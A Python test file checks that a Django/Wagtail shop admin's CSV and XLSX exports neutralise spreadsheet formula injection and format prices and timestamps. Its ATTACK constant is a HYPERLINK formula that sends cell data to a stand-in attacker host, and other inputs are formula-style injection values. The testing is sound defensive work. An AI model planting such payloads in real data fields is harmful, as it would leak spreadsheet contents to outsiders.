"""Admin spreadsheet exports (CSV and XLSX) write no live formulas and read like the admin.

Every export goes through commerce/admin/exports.py: ours and Wagtail's own reports.
"""

import csv
import io
import re
from datetime import datetime
from decimal import Decimal
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

from commerce.models import Order, OrderStatus, ProductStatus
from tests.factories.catalog import add_content_page, make_attribute, make_product
from tests.factories.orders import make_coupon, make_order

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://attacker.example/?"&A2,"x")'
ORDERS_URL = reverse("wagtailsnippets_commerce_order:list")
PRODUCTS_URL = reverse("wagtailsnippets_commerce_product:list")
COUPONS_URL = reverse("wagtailsnippets_commerce_coupon:list")


def csv_rows(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    heading, *cells = list(sheet.iter_rows())
    names = [cell.value for cell in heading]
    return [dict(zip(names, row, strict=True)) for row in cells]


@pytest.fixture
def attacked_order():
    order = make_order(
        [(make_product(price=Decimal("30.00")), 2)],
        number="SO-ATTACK",
        full_name=ATTACK,
        status=OrderStatus.PAID,
    )
    # Stored to the microsecond, as every real order is.
    Order.objects.filter(pk=order.pk).update(
        created_at=datetime(2026, 3, 1, 9, 30, 15, 123456, tzinfo=ZoneInfo("UTC"))
    )
    return order


def test_order_csv_has_no_formula_labels_two_decimals_and_whole_seconds(
    admin_client, attacked_order, settings
):
    settings.TIME_ZONE = "Europe/Warsaw"
    (row,) = csv_rows(admin_client.get(ORDERS_URL, {"export": "csv"}))
    assert row["Customer"] == "'" + ATTACK
    assert (row["Status"], row["Payment status"]) == ("Paid", "Paid")
    assert (row["Product total"], row["Discount"], row["Grand total"]) == (
        "60.00",
        "0.00",
        "75.00",
    )
    # In the admin's time zone (Warsaw is an hour ahead in March), to the second.
    assert row["Placed"] == "2026-03-01 10:30:15"


def test_order_xlsx_writes_the_name_as_text_and_money_as_numbers(admin_client, attacked_order):
    (row,) = xlsx_rows(admin_client.get(ORDERS_URL, {"export": "xlsx"}))
    customer = row["Customer"]
    assert customer.data_type == "s"  # a string cell, not a formula
    assert customer.value == ATTACK
    assert all(cell.data_type != "f" for cell in row.values())
    total = row["Grand total"]
    assert total.data_type == "n" and total.value == 75
    assert total.number_format == "0.00"
    assert row["Status"].value == "Paid"
    assert row["Placed"].value == datetime(2026, 3, 1, 9, 30, 15)


def test_product_export_neutralises_every_text_column(admin_client):
    make_product(
        "@SUM(A1:A9)",
        sku="-2+3",
        price=Decimal("30.00"),
        status=ProductStatus.DISABLED,
    )
    (row,) = csv_rows(admin_client.get(PRODUCTS_URL, {"export": "csv"}))
    assert (row["Name"], row["SKUs"]) == ("'@SUM(A1:A9)", "'-2+3")
    assert row["Status"] == "Disabled: listed, marked unavailable"
    assert (row["Lowest price"], row["Highest price"]) == ("30.00", "30.00")
    assert (row["Variants"], row["Revenue"], row["VAT %"]) == ("1", "0.00", "23.00")


def test_product_export_is_one_row_per_product_with_all_its_skus(admin_client):
    size, (s, m, large) = make_attribute("Size", ["S", "M", "L"], varies_per_variant=True)
    make_product(
        "Coat",
        axes=[size],
        variants=[
            {"sku": "COAT-S", "price": Decimal("90.00"), "options": [s], "stock": 2},
            {"sku": "COAT-M", "price": Decimal("120.00"), "options": [m], "stock": 3},
            # Inactive: counted and listed, not priced or stocked.
            {
                "sku": "=COAT-L",
                "price": Decimal("1.00"),
                "options": [large],
                "stock": 9,
                "is_active": False,
            },
        ],
    )
    (row,) = csv_rows(admin_client.get(PRODUCTS_URL, {"export": "csv"}))
    assert row["SKUs"] == "COAT-S, COAT-M, =COAT-L"
    assert (row["Variants"], row["Lowest price"], row["Highest price"], row["Stock"]) == (
        "3",
        "90.00",
        "120.00",
        "5",
    )
    (cells,) = xlsx_rows(admin_client.get(PRODUCTS_URL, {"export": "xlsx"}))
    assert cells["SKUs"].data_type == "s" and cells["Highest price"].value == 120


def test_coupon_export_writes_kind_labels(admin_client):
    make_coupon("+TAB", kind="fixed", value=Decimal("5.00"))
    (row,) = csv_rows(admin_client.get(COUPONS_URL, {"export": "csv"}))
    assert (row["Code"], row["Kind"], row["Value"]) == ("'+TAB", "Fixed amount off", "5.00")


def test_wagtails_own_reports_are_covered_too(admin_client, homepage, admin_user):
    page = add_content_page(homepage, ATTACK, slug="attack")
    page.locked, page.locked_by, page.locked_at = True, admin_user, timezone.now()
    page.save()
    rows = csv_rows(
        admin_client.get(reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"})
    )
    assert [row["Title"] for row in rows] == ["'" + ATTACK]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", rows[0]["Locked at"])


@pytest.mark.parametrize(
    "value, written",
    [
        # Real numbers are never quoted, negative ones included; decimals get two places.
        (Decimal("-5.00"), "-5.00"),
        (Decimal("9231.65000000000000"), "9231.65"),
        (-3, "-3"),
        # Text a spreadsheet would run, whatever it is made of.
        ("-5", "'-5"),
        ("+48 600 000 000", "'+48 600 000 000"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("Plain text", "Plain text"),
        ("a=1", "a=1"),
    ],
)
def test_csv_cells(value, written):
    view = SpreadsheetExportMixin()
    view.list_export = ["value"]
    writer = csv.DictWriter(Echo(), fieldnames=view.list_export)
    line = view.write_csv_row(writer, view.to_row_dict(SimpleNamespace(value=value)))
    (cell,) = next(csv.reader(io.StringIO(line.decode())))
    assert cell == written
